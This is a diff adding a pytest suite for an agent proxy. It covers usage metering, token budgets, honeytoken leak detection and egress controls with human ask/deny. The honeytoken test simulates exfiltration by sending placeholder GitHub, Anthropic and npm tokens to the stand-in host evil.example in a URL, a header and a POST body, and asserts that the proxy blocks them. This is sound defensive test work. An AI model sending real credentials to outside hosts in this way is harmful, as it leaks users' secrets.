@@ -1,0 +1,319 @@
+"""The proxy as the control point, for real: curl through the running proxy to fake
+upstreams on loopback, the real SQLite store between the proxy and what the API writes.
+
+Metering (the recorded usage equals what the fake reported, streamed or not, for each API,
+and a clean stop writes every count), budgets (429 in the API's own format once spent,
+shown on the session, lifted by raising the budget without a restart), honeytokens (a
+session's placeholder on its way to a foreign host is refused and raises the alert; at its
+own host it is swapped as before) and egress (locked, learn, ask: allowed, denied, expired).
+"""
+
+from __future__ import annotations
+
+import functools
+import json
+from collections.abc import AsyncIterator
+from dataclasses import replace
+from pathlib import Path
+
+import pytest
+import trio
+import trustme
+from conftest import SECRETS, add_session
+from model_fakes import ModelUpstream
+from proxy_fakes import FakeUpstream
+
+from appliance import controlstore, egressstore
+from appliance.audit import AuditLog, parse_line
+from appliance.budgets import Budget, BudgetDefaults
+from appliance.credentials import Credential, CredentialSet
+from appliance.egress import EgressDefaults, Verdict
+from appliance.placeholders import placeholder_env
+from appliance.sessions import AccessMode, Desired
+from appliance.store import Store
+from appliance.usage import Usage
+from proxy.certs import CertStore, load_or_create_ca
+from proxy.config import ProxyConfig, Upstream
+from proxy.controls import Controls, ControlSettings
+from proxy.directory import StoreDirectory
+from proxy.localaddrs import own_addresses
+from proxy.server import serve
+from proxy.state import ProxyState
+
+KEY = b"instance-key-of-the-controls-test"
+MODEL_HOSTS = ("api.anthropic.com", "api.openai.com")
+
+
+class Rig:
+    def __init__(self, state: ProxyState, store: Store, port: int, home: Path,
+                 model: ModelUpstream, echo: FakeUpstream) -> None:
+        self.state, self.store, self.port, self.home = state, store, port, home
+        self.model, self.echo = model, echo
+        self.controls = state.controls
+
+    def session(self, name: str) -> tuple[str, str]:
+        return add_session(self.store, name, AccessMode.READ_WRITE)
+
+    def audit(self) -> list[object]:
+        return [parse_line(line) for line in (self.home / "audit.jsonl").read_text().splitlines()]
+
+    async def curl(self, auth: tuple[str, str], url: str, *args: str) -> tuple[int, bytes]:
+        cmd = ["curl", "-sS", "--max-time", "30", "--cacert", str(self.home / "proxy-ca.pem"),
+               "--proxy", f"http://{auth[0]}:{auth[1]}@127.0.0.1:{self.port}",
+               "-o", "-", "-w", "\n%{http_code}", *args, url]
+        with trio.fail_after(40):
+            done = await trio.run_process(cmd, capture_stdout=True, capture_stderr=True,
+                                          check=False)
+        body, _, code = done.stdout.rpartition(b"\n")
+        return int(code), body
+
+    async def post(self, auth: tuple[str, str], url: str, doc: dict[str, object],
+                   *headers: str) -> tuple[int, bytes]:
+        args = ["-X", "POST", "-H", "content-type: application/json", "-d", json.dumps(doc)]
+        for h in headers:
+            args += ["-H", h]
+        return await self.curl(auth, url, *args)
+
+    async def rows(self, sid: str, count: int) -> list[controlstore.UsageRow]:
+        """The session's usage rows once ``count`` requests are recorded (bounded wait)."""
+        with trio.fail_after(10):
+            while True:
+                rows = controlstore.usage_rows(self.store, session_id=sid)
+                if sum(r.requests for r in rows) >= count:
+                    return rows
+                await trio.sleep(0.05)
+
+
+@pytest.fixture
+async def rig(nursery: trio.Nursery, home: Path, store: Store, upstream_ca: trustme.CA
+              ) -> AsyncIterator[Rig]:
+    model = ModelUpstream(upstream_ca)
+    echo = FakeUpstream(upstream_ca)
+    await nursery.start(model.serve)
+    await nursery.start(echo.serve)
+    bundle = home / "upstream-ca.pem"
+    upstream_ca.cert_pem.write_to_path(str(bundle))
+    to_model = Upstream(scheme="https", host="127.0.0.1", port=model.port)
+    to_echo = Upstream(scheme="https", host="127.0.0.1", port=echo.port)
+    upstreams = {"api.anthropic.com": to_model, "api.openai.com": to_model,
+                 "evil.example": to_echo, "other.example": to_echo,
+                 "api.github.com": to_echo}
+    config = ProxyConfig(upstreams=upstreams, extra_ca_bundle=bundle, deny_unlisted=True,
+                         model_hosts=MODEL_HOSTS)
+    creds = CredentialSet.of(Credential(name=k, value=v, source="env")
+                             for k, v in SECRETS.items())
+    certs = CertStore(load_or_create_ca(home / "proxy-ca.pem", home / "proxy-ca-key.pem"))
+    control_store = Store.open(home / "db.sqlite")
+    controls = Controls(control_store, KEY, ControlSettings(
+        egress=EgressDefaults(ask_seconds=20.0)))
+    with AuditLog(home / "audit.jsonl") as audit:
+        state = ProxyState(config=config, creds=creds, certs=certs,
+                           directory=StoreDirectory(store, cache_seconds=0), audit=audit,
+                           forbidden=own_addresses(), controls=controls)
+        bound = await nursery.start(functools.partial(serve, state, hosts=("127.0.0.1",),
+                                                      port=0))
+        yield Rig(state, store, bound.port, home, model, echo)
+        state.stop()
+    control_store.close()
+
+
+ANTHROPIC = "https://api.anthropic.com/v1/messages?beta=true"
+RESPONSES = "https://api.openai.com/v1/responses"
+CHAT = "https://api.openai.com/v1/chat/completions"
+
+
+async def test_recorded_usage_equals_what_the_upstream_reported(rig: Rig) -> None:
+    auth = rig.session("meter")
+    answers = []
+    for url in (ANTHROPIC, RESPONSES, CHAT):
+        for stream in (True, False):
+            status, body = await rig.post(auth, url, {"stream": stream, "model": "x"})
+            assert status == 200, body
+            answers.append(body)
+    # The streamed answers reached the client byte for byte.
+    assert answers[0] == b"".join(rig.model.events("/v1/messages")[0])
+    rows = await rig.rows(auth[0], 6)
+    assert [(r.model, r.requests, r.unmetered) for r in rows] == [
+        ("claude-sonnet-4-5-20250929", 6, 0)]
+    u = rig.model.usage
+    anthropic = Usage(input=u["input"], output=u["output"], cache_read=u["cache_read"],
+                      cache_write=u["cache_write"])
+    openai = Usage(input=u["input"], output=u["output"], cache_read=u["cache_read"])
+    assert rows[0].usage == anthropic + anthropic + openai + openai + openai + openai
+    assert rows[0].session_name == "meter"
+    # The upstream was asked for an uncompressed answer (the meter reads it as it passes).
+    assert all(s.header("accept-encoding") == ["identity"] for s in rig.model.seen)
+
+
+async def test_a_malformed_usage_block_is_counted_unmetered_and_the_answer_passes(
+        rig: Rig) -> None:
+    auth = rig.session("malformed")
+    rig.model.usage = {**rig.model.usage, "output": -5}
+    status, body = await rig.post(auth, ANTHROPIC, {"stream": True})
+    assert status == 200 and b"message_stop" in body
+    rows = await rig.rows(auth[0], 1)
+    assert [(r.requests, r.unmetered, r.usage.output) for r in rows] == [(1, 1, 0)]
+
+
+async def test_a_clean_stop_writes_every_count(
+        rig: Rig, monkeypatch: pytest.MonkeyPatch) -> None:
+    monkeypatch.setattr("proxy.ledger.FLUSH_SECONDS", 3600.0)
+    auth = rig.session("stopping")
+    for _ in range(3):
+        assert (await rig.post(auth, ANTHROPIC, {"stream": True}))[0] == 200
+    assert controlstore.usage_rows(rig.store, session_id=auth[0]) == []
+    rig.state.stop()
+    rows = await rig.rows(auth[0], 3)
+    assert rows[0].requests == 3 and rows[0].usage.output == 3 * rig.model.usage["output"]
+
+
+async def test_a_spent_budget_answers_429_and_raising_it_lets_the_agent_go_on(
+        rig: Rig) -> None:
+    sid, token = auth = rig.session("budgeted")
+    per_request = sum(rig.model.usage.values())
+    controlstore.set_budget(rig.store, sid, Budget(tokens_per_day=per_request * 2))
+    for _ in range(2):
+        assert (await rig.post(auth, ANTHROPIC, {"stream": True}))[0] == 200
+    await rig.rows(sid, 2)
+    with trio.fail_after(10):  # the snapshot catches up within a refresh
+        while (found := await rig.post(auth, ANTHROPIC, {"stream": True}))[0] == 200:
+            await trio.sleep(0.1)
+    status, body = found
+    assert status == 429
+    error = json.loads(body)["error"]
+    assert error["type"] == "rate_limit_error"
+    assert "budget exceeded for session budgeted" in error["message"]
+    assert "clauderon budget set budgeted" in error["message"]
+    # The OpenAI-format answer for OpenAI's API, and the session says why.
+    status, body = await rig.post(auth, RESPONSES, {"stream": True})
+    assert status == 429 and json.loads(body)["error"]["code"] == "insufficient_quota"
+    session = rig.store.get_session(sid)
+    assert session is not None and session.budget_exceeded is not None
+    assert "tokens today" in session.budget_exceeded
+    assert any(e.kind == "budget_exceeded" for e in rig.store.session_events(sid))
+    blocked = [r for r in rig.audit() if getattr(r, "error", None) == "BUDGET_EXCEEDED"]
+    assert blocked and blocked[0].status == 429  # type: ignore[attr-defined]
+    # Raised: the agent goes on, nothing restarted.
+    controlstore.set_budget(rig.store, sid, Budget(tokens_per_day=per_request * 100))
+    with trio.fail_after(10):
+        while (await rig.post(auth, ANTHROPIC, {"stream": True}))[0] == 429:
+            await trio.sleep(0.1)
+    with trio.fail_after(10):
+        while (s := rig.store.get_session(sid)) is not None and s.budget_exceeded:
+            await trio.sleep(0.05)
+    assert token  # the same credentials throughout
+
+
+async def test_the_global_budget_covers_all_sessions_together(rig: Rig) -> None:
+    a, b = rig.session("first"), rig.session("second")
+    rig.controls.settings = replace(rig.controls.settings, budgets=BudgetDefaults(
+        all_sessions=Budget(tokens=1)))
+    assert (await rig.post(a, ANTHROPIC, {"stream": False}))[0] == 200
+    await rig.rows(a[0], 1)
+    with trio.fail_after(10):
+        while (found := await rig.post(b, ANTHROPIC, {"stream": False}))[0] == 200:
+            await trio.sleep(0.1)
+    assert found[0] == 429 and b"all sessions" in found[1]
+
+
+async def test_a_placeholder_sent_to_a_foreign_host_is_blocked_and_alerts(rig: Rig) -> None:
+    sid, _ = auth = rig.session("leaky")
+    mine = placeholder_env(KEY, sid)
+    # Positive controls: its own host gets it swapped; a foreign host gets a clean request.
+    status, _ = await rig.curl(auth, "https://api.github.com/user",
+                               "-H", f"authorization: Bearer {mine['GH_TOKEN']}")
+    assert status == 200
+    assert rig.echo.seen[-1].header("authorization") == [f"Bearer {SECRETS['github_token']}"]
+    assert (await rig.curl(auth, "https://evil.example/ok"))[0] == 200
+    seen = len(rig.echo.seen)
+    # In the URL, a header, and the body: refused before anything went upstream.
+    for args in ([f"https://evil.example/c?k={mine['GH_TOKEN']}"],
+                 ["https://evil.example/c", "-H", f"x-key: {mine['ANTHROPIC_API_KEY']}"],
+                 ["https://evil.example/c", "-X", "POST", "-d", f"npm={mine['NPM_TOKEN']}"]):
+        status, body = await rig.curl(auth, args[0], *args[1:])
+        assert status == 403 and b"placeholder" in body
+    assert len(rig.echo.seen) == seen
+    audit = [r for r in rig.audit() if getattr(r, "decision", "") == "honeytoken"]
+    assert [r.note for r in audit] == [  # type: ignore[attr-defined]
+        "honeytoken: the session's github placeholder in the url",
+        "honeytoken: the session's anthropic placeholder in the header x-key",
+        "honeytoken: the session's npm placeholder in the body"]
+    session = rig.store.get_session(sid)
+    assert session is not None and session.alert is not None
+    assert "evil.example" in session.alert and session.desired is Desired.RUNNING
+    events = [e for e in rig.store.session_events(sid) if e.kind == "honeytoken"]
+    assert events and events[0].payload["host"] == "evil.example"
+
+
+async def test_a_honeytoken_can_stop_its_session(rig: Rig) -> None:
+    sid, _ = auth = rig.session("stopped-by-leak")
+    rig.store.update_session(sid, phase=rig.store.get_session(sid).phase.RUNNING)  # type: ignore[union-attr]
+    rig.controls.settings = replace(rig.controls.settings, stop_on_honeytoken=True)
+    leak = placeholder_env(KEY, sid)["OPENAI_API_KEY"]
+    assert (await rig.curl(auth, f"https://other.example/?x={leak}"))[0] == 403
+    session = rig.store.get_session(sid)
+    assert session is not None and session.desired is Desired.STOPPED
+
+
+async def test_egress_locked_and_learn(rig: Rig) -> None:
+    sid, _ = auth = rig.session("egress")
+    rig.store.update_session(sid, egress_mode="locked")
+    status, body = await rig.curl(auth, "https://evil.example/x")
+    assert status == 403 and b"egress mode is locked" in body
+    assert (await rig.post(auth, ANTHROPIC, {"stream": False}))[0] == 200  # model host
+    egressstore.put_host(rig.store, "*", "evil.example", Verdict.ALLOW)
+    egressstore.put_host(rig.store, sid, "other.example", Verdict.DENY)
+    await rig.controls.refresh()
+    assert (await rig.curl(auth, "https://evil.example/x"))[0] == 200
+    assert (await rig.curl(auth, "https://other.example/x"))[0] == 403
+    # learn: everything passes, each new host goes on the session's list once.
+    learner, _ = learning = rig.session("learner")
+    rig.store.update_session(learner, egress_mode="learn")
+    for _ in range(2):
+        assert (await rig.curl(learning, "https://other.example/y"))[0] == 200
+    with trio.fail_after(10):
+        while not egressstore.listed(rig.store, learner):
+            await trio.sleep(0.05)
+    assert [(e.host, e.source) for e in egressstore.listed(rig.store, learner)] == [
+        ("other.example", "learned")]
+    notes = [r.note for r in rig.audit() if getattr(r, "session", None) == learner]  # type: ignore[attr-defined]
+    assert notes == ["egress learn: a new host", None]
+
+
+async def _decide_when_asked(store: Store, sid: str, verdict: Verdict) -> None:
+    with trio.fail_after(10):
+        while not (asks := egressstore.pending_asks(store, sid)):
+            await trio.sleep(0.05)
+    egressstore.decide_ask(store, asks[0].id, verdict)
+
+
+async def test_ask_holds_until_a_person_allows_or_denies(rig: Rig) -> None:
+    sid, _ = auth = rig.session("asking")
+    rig.store.update_session(sid, egress_mode="ask")
+    async with trio.open_nursery() as nursery:
+        nursery.start_soon(_decide_when_asked, rig.store, sid, Verdict.ALLOW)
+        status, body = await rig.curl(auth, "https://evil.example/held")
+    assert status == 200 and json.loads(body)["target"] == "/held"
+    # Remembered: the next request is not held again.
+    assert (await rig.curl(auth, "https://evil.example/again"))[0] == 200
+    assert egressstore.pending_asks(rig.store, sid) == []
+    async with trio.open_nursery() as nursery:
+        nursery.start_soon(_decide_when_asked, rig.store, sid, Verdict.DENY)
+        status, body = await rig.curl(auth, "https://other.example/held")
+    assert status == 403 and b"a person denied it" in body
+    notes = {r.note for r in rig.audit() if getattr(r, "session", None) == sid}  # type: ignore[attr-defined]
+    assert "egress ask: allowed by a person" in notes
+    assert "egress ask: a person denied it" in notes
+
+
+async def test_ask_is_denied_when_nobody_answers(rig: Rig) -> None:
+    sid, _ = auth = rig.session("unanswered")
+    rig.store.update_session(sid, egress_mode="ask")
+    rig.controls.settings = replace(rig.controls.settings,
+                                    egress=EgressDefaults(ask_seconds=0.5))
+    status, body = await rig.curl(auth, "https://evil.example/late")
+    assert status == 403 and b"nobody allowed it in time" in body
+    with rig.store.reading() as conn:
+        decisions = [r[0] for r in conn.execute("SELECT decision FROM egress_asks")]
+    assert decisions == ["expired"]
+    assert all(s.target != "/late" for s in rig.echo.seen)
